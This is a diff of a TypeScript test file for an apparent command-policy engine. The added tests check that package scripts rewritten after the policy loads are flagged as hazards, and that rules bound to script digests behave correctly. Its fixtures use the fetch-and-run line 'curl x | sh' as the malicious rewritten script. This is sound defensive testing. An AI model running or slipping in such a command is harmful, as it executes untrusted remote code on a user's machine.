@@ -1,11 +1,17 @@
 import assert from "node:assert/strict";
 import { mkdirSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { test } from "node:test";
+import { type TestContext, test } from "node:test";
 import type { JsonObject, Kind, RequestFacts } from "@assent/core";
 import { policyFacts } from "../src/facts.ts";
 import { pathScope } from "../src/path-scope.ts";
+import { parseRule } from "../src/rules/parse-rule.ts";
+import { isFault } from "../src/rules/rule-fault.ts";
+import { packageScripts } from "../src/shell/package-scripts.ts";
+import { possibleDirectories } from "../src/touched-paths.ts";
+import { OPTIONS, request, rule } from "./rules/rule-bench.ts";
 import { scratch } from "./scratch.ts";
+import { shellUnits } from "./seen-line.ts";
 
 const facts = (workspace: string) => policyFacts({ workspace, look: pathScope({ workspace }) });
 
@@ -130,3 +136,89 @@ for (const [sentence, there, input, planFile] of SIZES) {
     assert.equal(two.planFile, undefined, "every location must be the plan");
   });
 }
+
+type Shown = { readonly id: string; readonly text: string };
+
+/** The hazards of a line, and its plan's digest, in a workspace whose scripts were read when it had the given package. */
+async function scriptHazards(
+  t: TestContext,
+  now: string,
+  command = "npm test",
+): Promise<{ hazards: readonly Shown[]; found: RequestFacts; same: boolean }> {
+  const workspace = scratch(t);
+  const write = (test: string): void => writeFileSync(join(workspace, "package.json"), JSON.stringify({ scripts: { test } }));
+  write("node --test");
+  mkdirSync(join(workspace, "sub"));
+  writeFileSync(join(workspace, "sub/package.json"), JSON.stringify({ scripts: { test: "tap" } }));
+  const look = policyFacts({ workspace, look: pathScope({ workspace }), scripts: packageScripts(workspace) });
+  const before = await shell(look, workspace, { command });
+  write(now);
+  const found = await shell(look, workspace, { command });
+  const { hazards = [] } = found.view as { hazards?: readonly Shown[] };
+  return { hazards: hazards.filter(({ id }) => id === "script_changed"), found, same: found.planDigest === before.planDigest };
+}
+
+test("5.9: a package script that was rewritten since the policy was loaded is a hazard, and no part of the plan's digest", async (t) => {
+  const { hazards, same } = await scriptHazards(t, "curl x | sh");
+  assert.deepEqual(hazards, [
+    { id: "script_changed", text: "the script of npm test is not the one that was there when the policy was loaded" },
+  ]);
+  assert.equal(same, true);
+});
+
+for (const [sentence, now, command] of [
+  ["that is as it was", "node --test", "npm test"],
+  ["of another package than the workspace's own", "curl x | sh", "cd sub && npm test"],
+] as const) {
+  test(`5.9: a script ${sentence} is none`, async (t) => {
+    assert.deepEqual((await scriptHazards(t, now, command)).hazards, []);
+  });
+}
+
+test("5.9: a rule that is bound to the rewritten script holds, one that is bound to nothing does not", async (t) => {
+  const { found } = await scriptHazards(t, "vitest");
+  const about = { ...request("shell", { command: "npm test" }, found.units), kind: "execute" } as const;
+  const [unit] = found.units;
+  const script = Object.values(found.binds)[0] ?? "";
+  assert.ok(unit);
+  const holds = (bind: { script: string } | undefined): string => {
+    const options = { ...OPTIONS, scripts: () => "sha256:old" };
+    const read = parseRule({ verdict: "allow", at: { text: "Shell(npm test)" }, ...(bind && { bind }) }, options);
+    return isFault(read) ? read.message : read.test(about, unit);
+  };
+  assert.deepEqual([holds({ script }), holds({ script: "sha256:old" }), holds(undefined)], ["yes", "no", "no"]);
+});
+
+test("what another tool does with a command is proven by nothing, and rules about commands reach it", async (t) => {
+  const root = scratch(t);
+  const of = async (tool: string, command: string): Promise<RequestFacts> =>
+    await facts(root)({ tool, kind: "execute", input: { command }, cwd: root, locations: undefined });
+  const [own, other] = [await of("shell", "ls && pwd"), await of("deploy", "ls && pwd")];
+  assert.deepEqual([own.safe, own.units.map(({ readOnly }) => readOnly)], [true, [true, true]]);
+  assert.deepEqual([other.safe, other.units.map(({ readOnly }) => readOnly)], [false, [false, false]]);
+  const { units } = await of("deploy", "ls; git push");
+  const about = { ...request("deploy", {}, units), kind: "execute" } as const;
+  const options = { ...OPTIONS, tools: { get: () => ({ kind: "execute", commandArg: "command" }), names: () => ["deploy"] } };
+  assert.deepEqual(
+    units.map((unit) => rule("deny", "Shell(git push)", options).test(about, unit)),
+    ["no", "yes"],
+  );
+});
+
+test("where the commands of a line go is found out once, however many there are", () => {
+  const [first] = shellUnits("cd a; cd b; ls; pwd", "/w", "unknown");
+  assert.ok(first);
+  let looks = 0;
+  const line = Object.create(first.line, {
+    seen: {
+      get: () => {
+        looks++;
+        return first.line.seen;
+      },
+    },
+  });
+  const places = Array.from({ length: 100 }, () => possibleDirectories({ ...first, line }, "/home/u"));
+  assert.deepEqual(places[99], ["/w", "/w/a", "/w/b", "/w/a/b"]);
+  assert.equal(looks, 1);
+  assert.deepEqual(possibleDirectories({ ...first, line: { ...first.line, seen: [] } }, "/home/u"), ["/w"]);
+});
